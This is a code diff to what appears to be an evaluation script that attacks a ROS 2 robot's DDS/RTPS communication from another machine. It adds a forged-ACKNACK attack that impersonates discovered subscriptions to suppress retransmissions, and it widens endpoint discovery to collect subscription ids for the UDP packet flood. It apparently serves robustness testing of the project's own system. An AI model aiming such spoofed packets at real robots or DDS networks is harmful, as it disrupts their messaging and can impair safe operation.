@@ -1,7 +1,7 @@
 """Attack with packets of RTPS, the protocol of DDS, from another machine: ``python -m evaluation.rtps_attack``.
 
-The attacker joins the domain to learn the ids of the publishers on some topics, and sends packets to all ports of the
-domain on the victim. It prints the number of packets.
+The attacker joins the domain to learn the ids of publishers and subscriptions on some topics, and sends packets to all
+ports of the domain on the victim. It prints the number of packets.
 """
 
 from __future__ import annotations
@@ -92,6 +92,13 @@ def participants(chance: random.Random, known: bytes) -> bytes:
     return HEADER + prefix + submessage(DATA, content + b"\x00\x03\x00\x00" + parameters, flags=5)
 
 
+def acknacks(chance: random.Random, known: bytes) -> bytes:
+    """An answer in the name of a subscription, after which those that it gives itself count as old: no repairs."""
+    writer, reader = known[:16], known[16:]
+    numbers = struct.pack("<iIII", 0, chance.randrange(1, 100), 0, 2**31 - 1000 + chance.randrange(1000))
+    return HEADER + reader[:12] + submessage(ACKNACK, reader[12:] + writer[12:] + numbers)
+
+
 ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
     "noise": noise,
     "malformed": malformed,
@@ -100,6 +107,7 @@ ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
     "samples": samples,
     "endless_gap": endless_gap,
     "participants": participants,
+    "acknacks": acknacks,
 }
 
 
@@ -109,19 +117,20 @@ def ports(domain: int) -> list[int]:
     return [base, *(base + 10 + offset for offset in range(2 * PARTICIPANTS))]
 
 
-def publishers(topics: list[str], timeout_s: float) -> list[bytes]:
-    """Ids of one publisher on each topic; zeros if there is none."""
+def endpoints(topics: list[str], timeout_s: float) -> list[bytes]:
+    """Ids of one publisher and one subscription on each topic, one after the other; zeros if there is none."""
     from socialbot.bridge.environment import spinning_node, wait_for
 
     with spinning_node("attacker") as ros:
-        wait_for(lambda: all(map(ros.get_publishers_info_by_topic, topics)), timeout_s)
-        found = [ros.get_publishers_info_by_topic(topic) for topic in topics]
-        return [bytes(each[0].endpoint_gid) if each else bytes(16) for each in found]
+        finders = (ros.get_publishers_info_by_topic, ros.get_subscriptions_info_by_topic)
+        wait_for(lambda: all(find(topic) for topic in topics for find in finders), timeout_s)
+        found = [[find(topic) for find in finders] for topic in topics]
+        return [b"".join(bytes(each[0].endpoint_gid) if each else bytes(16) for each in pair) for pair in found]
 
 
 def main(name: str, victim: str, topics: list[str], seconds: float) -> None:
-    """Attack ``victim`` for ``seconds`` in the name of the publishers on ``topics``."""
-    known = publishers(topics, 20.0)
+    """Attack ``victim`` for ``seconds`` in the name of the publishers and subscriptions on ``topics``."""
+    known = endpoints(topics, 20.0)
     chance, made = random.Random(1), ATTACKS[name]
     targets = ports(int(os.environ["ROS_DOMAIN_ID"]))
     sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
